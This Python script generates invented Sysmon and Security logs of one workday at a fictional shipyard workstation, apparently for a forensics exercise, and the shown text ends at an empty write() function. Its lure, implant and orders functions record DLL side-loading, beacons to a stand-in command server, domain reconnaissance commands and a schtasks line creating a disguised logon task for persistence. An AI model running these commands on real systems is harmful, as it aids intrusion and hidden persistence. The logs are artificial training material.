#!/usr/bin/env python3
"""Writes the evidence of a made-up intrusion at a made-up shipyard.

One working day of the workstation ws-071.nordwerft.example, as Sysmon and the Security log would have
recorded it: some three thousand events of ordinary work, and among them the few that README.md tells of.
Beside it some mails, the logs of the web server for two weeks, and those of two servers behind it.
Everything is invented; names end in .example and addresses are from the ranges reserved for documentation,
those of the servers' own network from a private one.
Nothing here is code of an attacker, only the traces it would leave.

Run without arguments; the files beside this one are written anew, the same each time.
"""

import base64
import json
import pathlib
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

SEED = 71
DAY = datetime(2026, 11, 17, tzinfo=timezone.utc)
HOST = "ws-071.nordwerft.example"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
PROVIDERS = {
    SYSMON: ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
    SECURITY: ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"),
}
FIRST_RECORD = {SYSMON: 418_203, SECURITY: 97_511}
# Version and task of each kind of event.
KINDS = {
    (SYSMON, 1): (5, 1),
    (SYSMON, 3): (5, 3),
    (SYSMON, 5): (3, 5),
    (SYSMON, 7): (3, 7),
    (SYSMON, 11): (2, 11),
    (SYSMON, 13): (2, 13),
    (SYSMON, 15): (2, 15),
    (SYSMON, 22): (5, 22),
    (SECURITY, 4624): (2, 12544),
    (SECURITY, 4634): (0, 12545),
    (SECURITY, 4648): (0, 12544),
    (SECURITY, 4672): (0, 12548),
    (SECURITY, 4688): (2, 13312),
    (SECURITY, 4689): (0, 13313),
    (SECURITY, 4698): (1, 12804),
    (SECURITY, 4799): (0, 13826),
}

SYSTEM32 = "C:\\Windows\\System32"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
CAD = "C:\\Program Files\\NauticDraft\\2026\\nauticdraft.exe"
TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams_25290.205.4069.4894_x64__8wekyb3d8bbwe\\ms-teams.exe"
HOME = "C:\\Users\\m.keller"
ONEDRIVE = HOME + "\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
SVCHOST = SYSTEM32 + "\\svchost.exe"
SERVICES = SYSTEM32 + "\\services.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
CMD = SYSTEM32 + "\\cmd.exe"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26100.9-0\\MsMpEng.exe"
WINDOWS = ("Microsoft® Windows® Operating System", "Microsoft Corporation", "10.0.26100.1742")

# Who made the programs that are not part of Windows: description, product, company, version.
MAKERS = {
    "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC", "142.0.7444.60"),
    "updater.exe": ("Google Updater", "Google Updater", "Google LLC", "142.0.7416.0"),
    "OUTLOOK.EXE": ("Microsoft Outlook", "Microsoft Office", "Microsoft Corporation", "16.0.19328.20158"),
    "WINWORD.EXE": ("Microsoft Word", "Microsoft Office", "Microsoft Corporation", "16.0.19328.20158"),
    "EXCEL.EXE": ("Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "16.0.19328.20158"),
    "ms-teams.exe": ("Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "25290.205.4069.4894"),
    "OneDrive.exe": ("Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "25.199.1012.0002"),
    "nauticdraft.exe": ("NauticDraft Hull Designer", "NauticDraft", "NauticDraft ApS", "26.2.0.118"),
    "draftsolver.exe": ("NauticDraft Solver", "NauticDraft", "NauticDraft ApS", "26.2.0.118"),
    "SumatraPDF.exe": ("SumatraPDF", "SumatraPDF", "Krzysztof Kowalczyk", "3.5.2"),
    "MuPDF_Reader.exe": ("MuPDF", "MuPDF", "Artifex Software", "1.24.0"),
}


@dataclass
class Account:
    """Somebody on whose behalf a process runs."""

    domain: str
    name: str
    sid: str
    logon: str
    level: str
    label: str

    def full(self):
        return f"{self.domain}\\{self.name}"


SYSTEM = Account("NT AUTHORITY", "SYSTEM", "S-1-5-18", "0x3e7", "System", "S-1-16-16384")
KELLER = Account(
    "NORDWERFT", "m.keller", "S-1-5-21-3318840165-2073911848-117208392-1171", "0x5d1f3", "Medium", "S-1-16-8192"
)


@dataclass
class Process:
    """A running program."""

    image: str
    command: str
    account: Account
    pid: int
    guid: str
    parent: "Process | None" = None


@dataclass
class Machine:
    """Collects what the two logs record."""

    rng: random.Random
    events: list = field(default_factory=list)
    next_logon: int = 0x61000

    def guid(self):
        bits = self.rng.getrandbits
        return f"{{a1f3c071-{bits(16):04x}-691b-{bits(16):04x}-{bits(40):012x}}}"

    def hashes(self, path):
        """The same for the same content: a program keeps it wherever it is copied, a library here does not."""
        content = path.lower()
        if content.endswith(".exe"):
            content = content.rsplit("\\", 1)[1]
        file = random.Random(f"{SEED} {content}")
        return f"SHA256={file.getrandbits(256):064X},IMPHASH={file.getrandbits(128):032X}"

    def log(self, time, channel, event_id, data):
        self.events.append((time, len(self.events), channel, event_id, data))

    def sysmon(self, time, event_id, process, **data):
        head = {"RuleName": "-", "UtcTime": utc_time(time), "ProcessGuid": process.guid, "ProcessId": process.pid}
        self.log(time, SYSMON, event_id, head | data)

    def running(self, image, command, account, parent=None):
        """A process that was started before the logs begin."""
        return Process(image, command, account, self.rng.randrange(500, 3900) * 4, self.guid(), parent)

    def start(self, time, image, command, parent, account=None, minutes=0.0):
        """Starts a process; it ends after so many minutes, or not at all on this day."""
        process = self.running(image, command, account or parent.account, parent)
        self.log_start_sysmon(time, process)
        self.log_start_security(time, process)
        if minutes:
            end = time + timedelta(minutes=minutes)
            self.sysmon(end, 5, process, Image=image, User=process.account.full())
            self.log(
                end,
                SECURITY,
                4689,
                subject(process.account) | {"Status": "0x0", "ProcessId": hex(process.pid), "ProcessName": image},
            )
        return process

    def log_start_sysmon(self, time, process):
        name = process.image.rsplit("\\", 1)[1]
        description, product, company, version = MAKERS.get(name, (name, *WINDOWS))
        account, parent = process.account, process.parent
        self.sysmon(
            time,
            1,
            process,
            Image=process.image,
            FileVersion=version,
            Description=description,
            Product=product,
            Company=company,
            OriginalFileName=name,
            CommandLine=process.command,
            CurrentDirectory=process.image.rsplit("\\", 1)[0] + "\\",
            User=account.full(),
            LogonGuid="{a1f3c071-0c51-691b-f3d1-050000000000}",
            LogonId=account.logon,
            TerminalSessionId=0 if account is SYSTEM else 1,
            IntegrityLevel=account.level,
            Hashes=self.hashes(process.image),
            ParentProcessGuid=parent.guid,
            ParentProcessId=parent.pid,
            ParentImage=parent.image,
            ParentCommandLine=parent.command,
            ParentUser=parent.account.full(),
        )

    def log_start_security(self, time, process):
        self.log(
            time,
            SECURITY,
            4688,
            subject(process.account)
            | {
                "NewProcessId": hex(process.pid),
                "NewProcessName": process.image,
                "TokenElevationType": "%%1936",
                "ProcessId": hex(process.parent.pid),
                "CommandLine": process.command,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": process.parent.image,
                "MandatoryLabel": process.account.label,
            },
        )

    def write_file(self, time, process, path):
        self.sysmon(
            time,
            11,
            process,
            Image=process.image,
            TargetFilename=path,
            CreationUtcTime=utc_time(time),
            User=process.account.full(),
        )

    def mark_download(self, time, process, path, url):
        """The mark that a browser leaves on what it downloads."""
        self.sysmon(
            time,
            15,
            process,
            Image=process.image,
            TargetFilename=path + ":Zone.Identifier",
            CreationUtcTime=utc_time(time),
            Hash=self.hashes(path + ":zone").split("IMPHASH")[0] + "IMPHASH=" + "0" * 32,
            Contents=f"[ZoneTransfer]  ZoneId=3  HostUrl={url}  ",
            User=process.account.full(),
        )

    def load(self, time, process, library, signature="Microsoft Windows"):
        name = library.rsplit("\\", 1)[1]
        signed = bool(signature)
        self.sysmon(
            time,
            7,
            process,
            Image=process.image,
            ImageLoaded=library,
            FileVersion=WINDOWS[2] if signed else "-",
            Description=name if signed else "-",
            Product=WINDOWS[0] if signed else "-",
            Company=WINDOWS[1] if signed else "-",
            OriginalFileName=name if signed else "-",
            Hashes=self.hashes(library),
            Signed=str(signed).lower(),
            Signature=signature or "-",
            SignatureStatus="Valid" if signed else "Unavailable",
            User=process.account.full(),
        )

    def registry(self, time, process, key, details):
        self.sysmon(
            time,
            13,
            process,
            EventType="SetValue",
            Image=process.image,
            TargetObject=key,
            Details=details,
            User=process.account.full(),
        )

    def resolve(self, time, process, name, address):
        self.sysmon(
            time,
            22,
            process,
            QueryName=name,
            QueryStatus="0",
            QueryResults=f"::ffff:{address};",
            Image=process.image,
            User=process.account.full(),
        )

    def connect(self, time, process, name, address, port=443):
        self.sysmon(
            time,
            3,
            process,
            Image=process.image,
            User=process.account.full(),
            Protocol="tcp",
            Initiated="true",
            SourceIsIpv6="false",
            SourceIp="192.0.2.71",
            SourceHostname=HOST,
            SourcePort=self.rng.randrange(49152, 65536),
            SourcePortName="-",
            DestinationIsIpv6="false",
            DestinationIp=address,
            DestinationHostname=name,
            DestinationPort=port,
            DestinationPortName="-",
        )

    def logon(self, time, account, logon_type, source="-", minutes=0.0):
        """A login, with the rights that come with it, and its end."""
        self.next_logon += self.rng.randrange(0x40, 0x900)
        logon_id = account.logon if logon_type in (2, 5) else hex(self.next_logon)
        target = {
            "TargetUserSid": account.sid,
            "TargetUserName": account.name,
            "TargetDomainName": account.domain,
            "TargetLogonId": logon_id,
        }
        self.log(
            time,
            SECURITY,
            4624,
            subject(SYSTEM)
            | target
            | {
                "LogonType": logon_type,
                "LogonProcessName": "Advapi  " if logon_type == 5 else "User32 ",
                "AuthenticationPackageName": "Negotiate",
                "WorkstationName": "-",
                "LogonGuid": self.guid(),
                "TransmittedServices": "-",
                "LmPackageName": "-",
                "KeyLength": 0,
                "ProcessId": "0x3c8",
                "ProcessName": SERVICES if logon_type == 5 else "-",
                "IpAddress": source,
                "IpPort": str(self.rng.randrange(49152, 65536)) if source != "-" else "-",
                "ImpersonationLevel": "%%1833",
                "ElevatedToken": "%%1842",
            },
        )
        if account is SYSTEM:
            self.log(
                time,
                SECURITY,
                4672,
                subject(SYSTEM)
                | {"PrivilegeList": "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeDebugPrivilege"},
            )
        if minutes:
            self.log(time + timedelta(minutes=minutes), SECURITY, 4634, target | {"LogonType": logon_type})


def utc_time(time):
    """As Sysmon writes it: milliseconds."""
    return time.strftime("%Y-%m-%d %H:%M:%S.") + f"{time.microsecond // 1000:03d}"


def subject(account):
    domain, name = ("NORDWERFT", "WS-071$") if account is SYSTEM else (account.domain, account.name)
    return {
        "SubjectUserSid": account.sid,
        "SubjectUserName": name,
        "SubjectDomainName": domain,
        "SubjectLogonId": account.logon,
    }


def clock(text):
    """`08:44:41` on the day of the story."""
    hours, minutes, seconds = text.split(":")
    return DAY + timedelta(hours=int(hours), minutes=int(minutes), seconds=float(seconds))


# Ordinary sites: name, address.
SITES = [
    ("www.hafennachrichten.example", "198.51.100.14"),
    ("wetter.kueste.example", "198.51.100.31"),
    ("klassifikation.example", "198.51.100.77"),
    ("stahlhandel-ostsee.example", "198.51.100.90"),
    ("cdn.bilder.example", "203.0.113.9"),
    ("suche.example", "203.0.113.17"),
    ("fonts.example", "203.0.113.18"),
    ("normen.maritim.example", "203.0.113.41"),
    ("bahn.example", "203.0.113.55"),
    ("varv.example", "203.0.113.62"),
]
CLOUD = {
    "mail": ("mail.buero.example", "198.51.100.200"),
    "teams": ("treffen.buero.example", "198.51.100.201"),
    "files": ("dateien.buero.example", "198.51.100.202"),
    "updates": ("updates.browser.example", "203.0.113.200"),
}
SERVERS = {"fs-01.nordwerft.example": "192.0.2.12", "lic-01.nordwerft.example": "192.0.2.15"}
# What Windows starts by itself: program, command line, minutes.
BACKGROUND = [
    ("\\svchost.exe", "-k netsvcs -p -s wlidsvc", 6),
    ("\\svchost.exe", "-k LocalService -p -s LicenseManager", 5),
    ("\\svchost.exe", "-k wsappx -p -s ClipSVC", 9),
    ("\\svchost.exe", "-k wsappx -p -s AppXSvc", 9),
    ("\\SearchProtocolHost.exe", "Global\\UsGthrFltPipeMssGthrPipe_71_ 1 -2147483646 Software", 3),
    ("\\SearchFilterHost.exe", "0 804 808 816 8192 812", 2),
    ("\\taskhostw.exe", "KEYROAMING", 1),
    ("\\taskhostw.exe", "SYSTEM", 1),
    ("\\MoUsoCoreWorker.exe", "-Embedding", 7),
    ("\\wermgr.exe", "-upload", 0.2),
    ("\\sppsvc.exe", "", 1),
    ("\\CompatTelRunner.exe", "-m:appraiser.dll -f:DoScheduledTelemetryRun", 2),
    ("\\DeviceCensus.exe", "SystemCxt", 0.5),
    ("\\wbem\\WmiPrvSE.exe", "-secured -Embedding", 5),
    ("\\TrustedInstaller.exe", "", 4),
    ("\\dllhost.exe", "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", 0.3),
    ("\\usoclient.exe", "StartScan", 0.2),
]
FOR_THE_USER = [
    ("\\backgroundTaskHost.exe", "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", 0.5),
    ("\\RuntimeBroker.exe", "-Embedding", 12),
    ("\\smartscreen.exe", "-Embedding", 1),
    ("\\dllhost.exe", "/Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}", 0.4),
    ("\\ApplicationFrameHost.exe", "-Embedding", 20),
    (
        "\\rundll32.exe",
        "C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
        2,
    ),
]
LIBRARIES = ["\\profapi.dll", "\\propsys.dll", "\\samlib.dll", "\\wbemcomn.dll", "\\winhttp.dll", "\\wintypes.dll"]
DRAWINGS = [
    "Neubau412_Spantriss",
    "Neubau412_Wellenanlage",
    "Neubau415_Generalplan",
    "Neubau412_Ruder",
    "Umbau398_Maschinenraum",
]


@dataclass
class Desk:
    """The processes that run all day."""

    services: Process
    svchost: Process
    explorer: Process
    chrome: Process
    outlook: Process
    teams: Process
    onedrive: Process
    defender: Process


def morning(machine):
    """The machine is switched on and m.keller logs in."""
    wininit = machine.running(SYSTEM32 + "\\wininit.exe", "wininit.exe", SYSTEM)
    services = machine.start(clock("05:51:08.21"), SERVICES, SERVICES, wininit)
    machine.logon(clock("05:51:08.40"), SYSTEM, 5)
    svchost = machine.start(clock("05:51:09.02"), SVCHOST, SVCHOST + " -k netsvcs -p -s Schedule", services)
    defender = machine.start(clock("05:51:10.77"), DEFENDER, f'"{DEFENDER}"', services)
    for number, name in enumerate(
        ["DcomLaunch", "RPCSS", "LocalServiceNetworkRestricted", "NetworkService", "LocalSystemNetworkRestricted"]
    ):
        machine.start(clock(f"05:51:{11 + number}.3"), SVCHOST, f"{SVCHOST} -k {name} -p", services)
    machine.logon(clock("05:58:31.12"), KELLER, 2, "127.0.0.1")
    userinit = machine.running(SYSTEM32 + "\\userinit.exe", SYSTEM32 + "\\userinit.exe", KELLER)
    explorer = machine.start(clock("05:58:33.50"), EXPLORER, EXPLORER, userinit)
    policy = machine.start(
        clock("05:58:35.90"), SYSTEM32 + "\\gpscript.exe", "gpscript.exe /Logon", userinit, minutes=0.3
    )
    script = machine.start(
        clock("05:58:36.10"), CMD, 'cmd.exe /c "\\\\nordwerft.example\\netlogon\\anmeldung.cmd"', policy, minutes=0.2
    )
    machine.start(
        clock("05:58:36.90"),
        SYSTEM32 + "\\net.exe",
        "net use P: \\\\fs-01\\projekte /persistent:no",
        script,
        minutes=0.05,
    )
    onedrive = machine.start(clock("05:58:44.31"), ONEDRIVE, f'"{ONEDRIVE}" /background', explorer)
    teams = machine.start(clock("05:58:47.02"), TEAMS, f'"{TEAMS}" msteams:system-initiated', explorer)
    outlook = machine.start(clock("06:01:12.64"), OFFICE + "\\OUTLOOK.EXE", f'"{OFFICE}\\OUTLOOK.EXE"', explorer)
    chrome = machine.start(clock("06:04:20.18"), CHROME, f'"{CHROME}"', explorer)
    return Desk(services, svchost, explorer, chrome, outlook, teams, onedrive, defender)


def moments(machine, first, last, mean_minutes):
    """Random times, so many minutes apart on average."""
    time = clock(first)
    while True:
        time += timedelta(minutes=machine.rng.expovariate(1 / mean_minutes))
        if time >= clock(last):
            return
        yield time


def background(machine, desk):
    """What Windows does by itself."""
    for time in moments(machine, "05:53:00", "15:40:00", 4.6):
        name, arguments, minutes = machine.rng.choice(BACKGROUND)
        image = SYSTEM32 + name if "Trusted" not in name else "C:\\Windows\\servicing" + name
        parent = desk.services if "svchost" in name or "sppsvc" in name else desk.svchost
        process = machine.start(time, image, f"{image} {arguments}".strip(), parent, minutes=minutes)
        machine.load(time + timedelta(milliseconds=90), process, SYSTEM32 + machine.rng.choice(LIBRARIES))
    for time in moments(machine, "05:59:30", "15:35:00", 7):
        name, arguments, minutes = machine.rng.choice(FOR_THE_USER)
        process = machine.start(time, SYSTEM32 + name, f"{SYSTEM32}{name} {arguments}", desk.svchost, KELLER, minutes)
        machine.load(time + timedelta(milliseconds=60), process, SYSTEM32 + machine.rng.choice(LIBRARIES))
    for time in moments(machine, "05:53:00", "15:40:00", 9):
        machine.logon(time, SYSTEM, 5)
    for time in moments(machine, "06:00:00", "15:30:00", 35):  # the screen is unlocked, then a share is opened
        machine.logon(time, KELLER, 7, "127.0.0.1", minutes=0.01)
        machine.log(
            time + timedelta(seconds=20),
            SECURITY,
            4648,
            subject(KELLER)
            | {
                "LogonGuid": machine.guid(),
                "TargetUserName": "m.keller",
                "TargetDomainName": "NORDWERFT",
                "TargetServerName": "fs-01.nordwerft.example",
                "TargetInfo": "cifs/fs-01",
                "ProcessId": "0x4",
                "ProcessName": "",
                "IpAddress": "-",
                "IpPort": "-",
            },
        )
    for time in moments(machine, "05:54:00", "15:38:00", 6):
        key = machine.rng.choice(
            [
                "bam\\State\\UserSettings\\" + KELLER.sid,
                "Tcpip\\Parameters\\Interfaces\\{0b3f}\\DhcpServer",
                "W32Time\\Config\\LastKnownGoodTime",
            ]
        )
        machine.registry(time, desk.svchost, "HKLM\\System\\CurrentControlSet\\Services\\" + key, "Binary Data")


def browsing(machine, desk):
    """The browser: sites, helpers, cached files, now and then a download."""
    for time in moments(machine, "06:05:00", "15:25:00", 3.2):
        name, address = machine.rng.choice(SITES)
        helper = f'"{CHROME}" --type=renderer --lang=de --renderer-client-id={machine.rng.randrange(6, 900)}'
        if machine.rng.random() < 0.45:
            machine.start(time, CHROME, helper, desk.chrome, minutes=machine.rng.uniform(1, 25))
        machine.resolve(time + timedelta(milliseconds=40), desk.chrome, name, address)
        machine.connect(time + timedelta(milliseconds=95), desk.chrome, name, address)
    downloads = [
        "Klassenvorschrift_2026-07.pdf",
        "Spantriss_Neubau_412.zip",
        "Preisliste Bleche KW47.xlsx",
        "Wellenlager_Datenblatt.pdf",
        "Lieferschein_88213.pdf",
        "Fotos_Stapellauf.zip",
    ]
    for number, name in enumerate(downloads):
        time = clock("06:40:00") + timedelta(minutes=83 * number + machine.rng.uniform(0, 30))
        machine.write_file(time, desk.chrome, f"{HOME}\\Downloads\\{name}")
        machine.mark_download(
            time, desk.chrome, f"{HOME}\\Downloads\\{name}", f"https://{SITES[number][0]}/{number}/{name.split('.')[0]}"
        )
    for time in moments(machine, "06:20:00", "15:20:00", 110):
        updater = "C:\\Program Files (x86)\\Google\\GoogleUpdater\\142.0.7416.0\\updater.exe"
        process = machine.start(time, updater, f'"{updater}" --wake --system', desk.svchost, minutes=0.4)
        machine.resolve(time + timedelta(milliseconds=300), process, *CLOUD["updates"])
        machine.connect(time + timedelta(milliseconds=380), process, *CLOUD["updates"])


def office_work(machine, desk):
    """Mail, meetings, documents, file shares."""
    for service, process, pause in (
        ("mail", desk.outlook, 11),
        ("teams", desk.teams, 12),
        ("files", desk.onedrive, 16),
    ):
        for time in moments(machine, "06:05:00", "15:30:00", pause):
            machine.resolve(time, process, *CLOUD[service])
            machine.connect(time + timedelta(milliseconds=55), process, *CLOUD[service])
    for time in moments(machine, "06:10:00", "15:25:00", 14):
        machine.write_file(
            time,
            desk.outlook,
            f"{HOME}\\AppData\\Local\\Microsoft\\Outlook\\RoamCache\\Stream_{machine.rng.getrandbits(32):08X}.dat",
        )
    for time in moments(machine, "06:30:00", "15:10:00", 50):
        program, name = machine.rng.choice(
            [("WINWORD.EXE", "Protokoll Baubesprechung.docx"), ("EXCEL.EXE", "Stückliste Neubau 412.xlsx")]
        )
        path = f"P:\\Neubau412\\{name}"
        process = machine.start(
            time, f"{OFFICE}\\{program}", f'"{OFFICE}\\{program}" /n "{path}"', desk.explorer, minutes=18
        )
        machine.write_file(time + timedelta(seconds=2), process, f"P:\\Neubau412\\~${name[2:]}")
        machine.write_file(
            time + timedelta(minutes=11), process, f"{HOME}\\AppData\\Roaming\\Microsoft\\Office\\Recent\\{name}.LNK"
        )
    for time in moments(machine, "06:30:00", "15:10:00", 95):
        reader = "C:\\Program Files\\SumatraPDF\\SumatraPDF.exe"
        process = machine.start(
            time, reader, f'"{reader}" "{HOME}\\Downloads\\Wellenlager_Datenblatt.pdf"', desk.explorer, minutes=9
        )
        machine.load(time + timedelta(milliseconds=200), process, "C:\\Program Files\\SumatraPDF\\libmupdf.dll", "")
    for time in moments(machine, "06:05:00", "15:30:00", 13):
        machine.connect(time, desk.explorer, "fs-01.nordwerft.example", SERVERS["fs-01.nordwerft.example"], 445)
    for time in moments(machine, "06:05:00", "15:30:00", 9):
        number = machine.rng.randrange(1, 400)
        machine.registry(
            time,
            desk.explorer,
            "HKU\\" + KELLER.sid + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
            f"RecentDocs\\.pdf\\{number}",
            "Binary Data",
        )


def drawing(machine, desk):
    """The ship's hull, from half past seven to noon and again in the afternoon."""
    for first, last in (("06:32:10", "11:02:00"), ("11:48:30", "15:12:00")):
        length = (clock(last) - clock(first)).total_seconds() / 60
        cad = machine.start(
            clock(first), CAD, f'"{CAD}" "P:\\Neubau412\\{DRAWINGS[0]}.ndx"', desk.explorer, minutes=length
        )
        machine.load(
            clock(first) + timedelta(seconds=1),
            cad,
            "C:\\Program Files\\NauticDraft\\2026\\hullkernel.dll",
            "NauticDraft ApS",
        )
        machine.connect(
            clock(first) + timedelta(seconds=3),
            cad,
            "lic-01.nordwerft.example",
            SERVERS["lic-01.nordwerft.example"],
            27000,
        )
        for time in moments(machine, first, last, 7):
            name = machine.rng.choice(DRAWINGS)
            machine.write_file(time, cad, f"P:\\Neubau412\\{name}.ndx.bak")
            machine.write_file(
                time + timedelta(seconds=1),
                cad,
                f"{HOME}\\AppData\\Local\\NauticDraft\\autosave\\{name}_{machine.rng.randrange(9)}.tmp",
            )
        for time in moments(machine, first, last, 38):
            solver = "C:\\Program Files\\NauticDraft\\2026\\draftsolver.exe"
            machine.start(time, solver, f'"{solver}" /job {machine.rng.randrange(1000, 9999)}', cad, minutes=4)


def administration(machine, desk):
    """The IT firm's nightly leftovers and honest use of the tools that attackers use too."""
    agent = machine.start(
        clock("05:55:02.5"),
        "C:\\Program Files\\Inventar\\agent.exe",
        '"C:\\Program Files\\Inventar\\agent.exe" -service',
        desk.services,
    )
    shell = machine.start(clock("07:15:00.4"), CMD, "cmd.exe /c inventar.cmd", agent, minutes=1)
    for second, name, arguments in (
        (1, "\\wbem\\WMIC.exe", "product get name,version /format:csv"),
        (9, "\\systeminfo.exe", "/fo csv"),
        (15, "\\ipconfig.exe", "/all"),
        (17, "\\schtasks.exe", "/query /fo csv /v"),
        (21, "\\certutil.exe", "-store my"),
    ):
        machine.start(clock(f"07:15:{second}.8"), SYSTEM32 + name, f"{SYSTEM32}{name} {arguments}", shell, minutes=0.05)
    broker = SYSTEM32 + "\\wkspbroker.exe"
    genuine = machine.start(clock("06:02:40.0"), broker, f"{broker} -Embedding", desk.svchost, KELLER, 3)
    machine.load(clock("06:02:40.2"), genuine, SYSTEM32 + "\\radcui.dll")
    client = SYSTEM32 + "\\wuauclt.exe"
    machine.start(
        clock("10:20:11.9"),
        client,
        f'"{client}" /UpdateDeploymentProvider UpdateDeploymentProvider.dll '
        "/ClassId 7d1c5e02-3a5b-4b0e-9d0f-2c6c1f0a7e11 /RunHandlerComServer",
        desk.svchost,
        minutes=6,
    )
    machine.log(
        clock("10:20:14.0"),
        SECURITY,
        4698,
        subject(SYSTEM)
        | {
            "TaskName": "\\Microsoft\\Windows\\UpdateOrchestrator\\Reboot_AC",
            "TaskContent": task_xml("%systemroot%\\system32\\MusNotification.exe", "/RunOnAC RebootDialog"),
            "ClientProcessStartKey": "5629499534214172",
            "ClientProcessId": "4108",
            "ParentProcessId": "0",
            "RpcCallClientLocality": "0",
            "FQDN": HOST,
        },
    )
    for time in moments(machine, "06:00:00", "15:30:00", 70):
        machine.log(
            time,
            SECURITY,
            4799,
            subject(SYSTEM)
            | {
                "TargetUserName": "Administratoren",
                "TargetDomainName": "Builtin",
                "TargetSid": "S-1-5-32-544",
                "CallerProcessId": "0x9c4",
                "CallerProcessName": SVCHOST,
            },
        )


def task_xml(command, arguments=""):
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <Triggers>\r\n    <LogonTrigger>\r\n      '
        '<Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n'
        f"      <Command>{command}</Command>\r\n      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
    )


REMOTE_APP = HOME + "\\AppData\\Roaming\\Microsoft\\RemoteApp"
C2 = ("www.hafenblick-pension.example", "203.0.113.80")


def lure(machine, desk):
    """The job offer arrives, and m.keller opens it with the reader that came along."""
    image = HOME + "\\Downloads\\Job_Description_Naval_Propulsion.iso"
    machine.resolve(clock("08:41:02.33"), desk.chrome, "share.talent-nord.example", "203.0.113.121")
    machine.connect(clock("08:41:02.41"), desk.chrome, "share.talent-nord.example", "203.0.113.121")
    machine.write_file(clock("08:41:12.70"), desk.chrome, image)
    machine.mark_download(
        clock("08:41:12.71"),
        desk.chrome,
        image,
        "https://share.talent-nord.example/d/9f1c/Job_Description_Naval_Propulsion.iso",
    )
    reader = machine.start(
        clock("08:44:30.12"), "E:\\MuPDF_Reader.exe", '"E:\\MuPDF_Reader.exe" ', desk.explorer, minutes=6
    )
    machine.load(clock("08:44:30.31"), reader, "E:\\libmupdf.dll", "")
    return reader


def implant(machine, reader):
    """The reader writes the side-loading pair and starts it; the implant calls its site every half hour or so."""
    for second, name in (("41.05", "wkspbroker.exe"), ("41.22", "radcui.dll"), ("41.30", "radcui.dat")):
        machine.write_file(clock(f"08:44:{second}"), reader, f"{REMOTE_APP}\\{name}")
    broker = machine.start(
        clock("08:44:43.48"), REMOTE_APP + "\\wkspbroker.exe", f'"{REMOTE_APP}\\wkspbroker.exe"', reader
    )
    machine.load(clock("08:44:43.66"), broker, REMOTE_APP + "\\radcui.dll", "")
    machine.resolve(clock("08:44:52.01"), broker, *C2)
    machine.connect(clock("08:44:52.10"), broker, *C2)
    for number in range(1, 13):
        machine.connect(clock("08:44:52.10") + timedelta(minutes=31 * number + machine.rng.uniform(-3, 3)), broker, *C2)
    return broker


def orders(machine, broker):
    """What the operator does on the first day: look around, and make sure to stay."""
    looks = [
        ("09:12:04.2", "whoami /all"),
        ("09:12:19.6", "ipconfig /all"),
        ("09:13:02.9", 'net group "Domain Admins" /domain'),
        ("09:13:40.5", "net view /domain"),
        ("09:14:21.3", "tasklist /v"),
    ]
    for time, command in looks:
        shell = machine.start(clock(time), CMD, f"cmd.exe /c {command}", broker, minutes=0.05)
        program = SYSTEM32 + f"\\{command.split()[0]}.exe"
        machine.start(
            clock(time) + timedelta(milliseconds=80), program, command.replace("/c ", ""), shell, minutes=0.04
        )
    task = f'schtasks /create /f /sc onlogon /tn "Microsoft\\Windows\\RemoteApp\\SRCheck" /tr "{REMOTE_APP}\\wkspbroker.exe"'
    shell = machine.start(clock("09:31:15.0"), CMD, f"cmd.exe /c {task}", broker, minutes=0.05)
    machine.start(clock("09:31:15.1"), SYSTEM32 + "\\schtasks.exe", task, shell, minutes=0.03)
    machine.log(
        clock("09:31:15.6"),
        SECURITY,
        4698,
        subject(KELLER)
        | {
            "TaskName": "\\Microsoft\\Windows\\RemoteApp\\SRCheck",
            "TaskContent": task_xml(REMOTE_APP + "\\wkspbroker.exe"),
            "ClientProcessStartKey": "5629499534219001",
            "ClientProcessId": "9216",
            "ParentProcessId": "7748",
            "RpcCallClientLocality": "0",
            "FQDN": HOST,
        },
    )


def record(number, time, channel, event_id, data):
    """An event as evtx_dump prints it."""
    name, guid = PROVIDERS[channel]
    version, task = KINDS[channel, event_id]
    sysmon = channel == SYSMON
    system = {
        "Provider": {"#attributes": {"Name": name, "Guid": guid}},
        "EventID": event_id,
        "Version": version,
        "Level": 4 if sysmon else 0,
        "Task": task,
        "Opcode": 0,
        "Keywords": "0x8000000000000000" if sysmon else "0x8020000000000000",
        "TimeCreated": {"#attributes": {"SystemTime": time.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        "EventRecordID": number,
        "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 3128 if sysmon else 4, "ThreadID": 4480 if sysmon else 320}},
        "Channel": channel,
        "Computer": HOST,
        "Security": {"#attributes": {"UserID": "S-1-5-18"}} if sysmon else None,
    }
    namespace = {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}
    return {"Event": {"#attributes": namespace, "System": system, "EventData": data}}


def write(machine, channel, path):
